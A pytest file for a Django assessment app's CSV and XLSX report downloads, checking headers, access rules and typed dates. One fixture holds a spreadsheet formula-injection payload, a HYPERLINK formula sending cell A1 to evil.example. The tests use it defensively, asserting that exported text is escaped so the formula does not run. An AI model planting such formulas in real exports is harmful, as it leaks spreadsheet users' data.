"""The assessment as CSV beside its XLSX, and dates typed as dates in every XLSX download."""

import csv
import datetime
import io
import re

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from assessments import services

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"minutes")'
ISO_DATE = re.compile(r"^\d{4}-\d{2}-\d{2}$")


def _csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.fixture
def typed(assessment, editor):
    assessment.records.filter(action__code="L1S1").update(
        note=FORMULA, responsible="-Roads office", target_date=datetime.date(2027, 3, 31)
    )
    return assessment


def test_the_assessment_downloads_as_csv_with_formulas_kept_as_text(client, typed, editor):
    """Catches a missing CSV (404), and one whose typed text a spreadsheet would run."""
    client.force_login(editor)
    page = client.get(reverse("assessments:matrix", args=["glasgow", typed.pk]))
    url = reverse("reports:csv", args=["glasgow", typed.pk])
    assert url in page.content.decode()
    response = client.get(url)
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        'attachment; filename="glasgow-self-assessment-2026.csv"'
    )
    rows = _csv(response)
    assert rows[0] == [
        "Code", "Dimension", "Subdimension", "Stage", "Action", "Status", "Evidence note",
        "Evidence links", "Evidence files", "Responsible", "Target date", "Why not applicable",
    ]  # fmt: skip
    assert len(rows) == 1 + 90
    l1s1 = next(row for row in rows if row[0] == "L1S1")
    assert l1s1[6] == "'" + FORMULA and l1s1[9] == "'-Roads office"
    assert l1s1[10] == "2027-03-31"


def test_a_partner_without_private_parts_gets_no_names_in_the_csv(
    client, typed, editor, partner, partner_user
):
    submitted = services.submit(typed, editor)
    services.share(submitted, partner, editor)
    client.force_login(partner_user)
    rows = _csv(client.get(reverse("reports:csv", args=["glasgow", submitted.pk])))
    assert next(row for row in rows if row[0] == "L1S1")[9] == ""


def test_an_outsider_gets_404_for_the_csv(client, typed, outsider):
    client.force_login(outsider)
    assert client.get(reverse("reports:csv", args=["glasgow", typed.pk])).status_code == 404


def _date_cells(content: bytes) -> tuple[list[str], list[tuple]]:
    """Every cell that shows a date: (texts that look like one, typed dates with format)."""
    book = load_workbook(io.BytesIO(content))
    texts, typed = [], []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and ISO_DATE.match(cell.value):
                    texts.append(f"{sheet.title}!{cell.coordinate}")
                elif isinstance(cell.value, datetime.datetime | datetime.date):
                    typed.append((sheet.title, cell.value.date(), cell.number_format))
    return texts, typed


def test_every_xlsx_types_its_dates_as_dates(client, typed, editor, partner, partner_user):
    """Catches the partner's cities.xlsx writing "Reference date" as text ("2026-…"), which
    neither sorts nor filters as a date, while the other XLSX files write dates."""
    client.force_login(editor)
    downloads = [
        reverse("reports:xlsx", args=["glasgow", typed.pk]),
        reverse("reports:workplan", args=["glasgow", typed.pk, "xlsx"]),
    ]
    found = []
    for url in downloads:
        texts, dates = _date_cells(client.get(url).content)
        assert texts == [], url
        found += dates
    assert ("Work plan", datetime.date(2027, 3, 31), "yyyy-mm-dd") in found
    submitted = services.submit(typed, editor)
    services.share(submitted, partner, editor)
    client.force_login(partner_user)
    response = client.get(reverse("dashboards:heatmap_export", args=[partner.slug, "xlsx"]))
    assert response.status_code == 200
    texts, dates = _date_cells(response.content)
    assert texts == []
    assert dates == [("Cities", submitted.reference_date, "yyyy-mm-dd")]
